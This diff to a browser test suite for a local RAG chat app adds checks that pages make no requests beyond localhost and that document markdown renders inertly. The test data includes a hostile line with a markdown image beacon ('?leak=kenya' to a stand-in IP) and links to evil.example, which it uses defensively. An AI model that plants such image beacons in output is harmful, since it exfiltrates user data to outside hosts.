@@ -2,8 +2,9 @@
 
 Start the server on a free loopback port, load the demo corpus (the first build embeds ~450
 chunks with the local ONNX model), ask a question in Chat, and check that the answer, a
-retrieved chunk with its labelled score, and the cost line are visible. Saves
-tests/artifacts/chat.png (git-ignored).
+retrieved chunk with its labelled score, and the cost line are visible, and that no request
+the pages make leaves localhost (favicon, fonts, charts). Saves tests/artifacts/chat.png
+(git-ignored).
 """
 
 from __future__ import annotations
@@ -15,6 +16,7 @@ import sys
 import time
 import urllib.request
 from pathlib import Path
+from urllib.parse import urlparse
 
 import pytest
 
@@ -25,6 +27,11 @@ ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background
         "--disable-component-update", "--disable-sync"]
 
 pytestmark = pytest.mark.browser
+
+#: a document line that tries every markdown way to make the browser fetch or link something
+HOSTILE = ("The capital of Kenya is Nairobi ![pixel](http://198.51.100.7/p.png?leak=kenya) "
+           "[click me](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare "
+           "www.evil.example <img src=\"http://198.51.100.7/i.png\"> :material/home: $x^2$ **bold**.")
 
 
 def free_port() -> int:
@@ -46,6 +53,21 @@ def wait_healthy(url: str, proc: subprocess.Popen, timeout: float = 60) -> None:
             pass
         time.sleep(0.3)
     raise TimeoutError(f"streamlit did not become healthy at {url} in {timeout} s")
+
+
+def leaves_localhost(url: str) -> bool:
+    """A request the page makes to anything but this machine (data: and blob: URLs are local)."""
+    parsed = urlparse(url)
+    local = parsed.hostname in ("127.0.0.1", "localhost", "::1")
+    return parsed.scheme not in ("data", "blob", "about") and not local
+
+
+def stay_local(context, outside: list[str]):
+    """Record every request a page of `context` makes beyond localhost, and abort it (a test
+    never touches the network)."""
+    context.on("request", lambda req: outside.append(req.url) if leaves_localhost(req.url) else None)
+    context.route(leaves_localhost, lambda route: route.abort())
+    return context
 
 
 @pytest.fixture
@@ -78,9 +100,10 @@ def test_demo_chat_in_a_real_browser(server):
     from playwright.sync_api import expect, sync_playwright
 
     ARTIFACTS.mkdir(exist_ok=True)
+    outside: list[str] = []
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
-        page = browser.new_page(viewport={"width": 1920, "height": 1080})
+        page = stay_local(browser.new_context(viewport={"width": 1920, "height": 1080}), outside).new_page()
         try:
             # The very first request of a fresh server is a deep link: it must still get the
             # app's own navigation (not Streamlit's automatic pages/ menu) and its page.
@@ -115,14 +138,64 @@ def test_demo_chat_in_a_real_browser(server):
 
             # A second browser session at the same time has its own chat: it sees the shared
             # demo index, but not the first session's question.
-            other = browser.new_context(viewport={"width": 1280, "height": 720}).new_page()
+            second = browser.new_context(viewport={"width": 1280, "height": 720})
+            other = stay_local(second, outside).new_page()
             other.goto(server + "/chat")
             expect(other.get_by_placeholder("Ask a question about the documents in this index")).to_be_visible(
                 timeout=30_000)
             expect(other.get_by_text("What is the capital of Kenya?")).to_have_count(0)
             expect(page.get_by_text("What is the capital of Kenya?").first).to_be_visible()
+
+            # Offline means offline: the favicon, fonts and icons all come from this server.
+            page.goto(server + "/index")
+            expect(page.get_by_text("Chunk lengths in tokens").first).to_be_visible(timeout=60_000)  # plotly
+            page.wait_for_timeout(1000)
+            favicons = page.evaluate("[...document.querySelectorAll('link[rel*=icon]')].map(l => l.href)")
+            assert favicons and not any(leaves_localhost(f) for f in favicons), favicons
+            assert outside == [], f"requests left localhost: {outside}"
         except Exception:
             page.screenshot(path=str(ARTIFACTS / "chat-failure.png"), full_page=True)
+            raise
+        finally:
+            browser.close()
+
+
+def test_markdown_in_a_document_renders_as_text_in_a_real_browser(server, tmp_path):
+    """A document line with a markdown image (and links, autolinks, raw HTML), quoted by the
+    extractive answerer, shows as its characters: no <img> or <a> from it, no request out."""
+    if not Path(CHROMIUM).exists():
+        pytest.skip(f"{CHROMIUM} is missing: apt-get install -y chromium")
+    from playwright.sync_api import expect, sync_playwright
+
+    from rag_core.embeddings import create_embedder
+    from rag_core.index import Index
+    from rag_core.types import ChunkingConfig, Document
+
+    index = Index.create(tmp_path / "indexes" / "hostile", create_embedder("hashing"), "numpy",
+                         ChunkingConfig(size=2000))
+    index.ingest([Document("kenya.md", "Kenya", HOSTILE)])
+    index.save()
+    outside: list[str] = []
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+        page = stay_local(browser.new_context(viewport={"width": 1600, "height": 1000}), outside).new_page()
+        try:
+            page.goto(server + "/chat")
+            box = page.get_by_placeholder("Ask a question about the documents in this index")
+            expect(box).to_be_visible(timeout=60_000)
+            box.fill("What is the capital of Kenya?")
+            box.press("Enter")
+            expect(page.locator(".rag-hit").first).to_contain_text("[click me](https://evil.example/x)",
+                                                                  timeout=60_000)  # drawn after the answer
+            page.wait_for_timeout(1000)
+            assert outside == [], f"requests left localhost: {outside}"
+            assert page.locator("img[src*='198.51.100.7'], a[href*='evil.example']").count() == 0
+            answer = page.locator('[data-testid="stChatMessage"]').nth(1)
+            expect(answer).to_contain_text("![pixel](http://198.51.100.7/p.png?leak=kenya)")
+            expect(answer).to_contain_text("[1]")
+            assert answer.locator("img, a").count() == 0 and page.locator(".rag-hit img").count() == 0
+        except Exception:
+            page.screenshot(path=str(ARTIFACTS / "hostile-failure.png"), full_page=True)
             raise
         finally:
             browser.close()
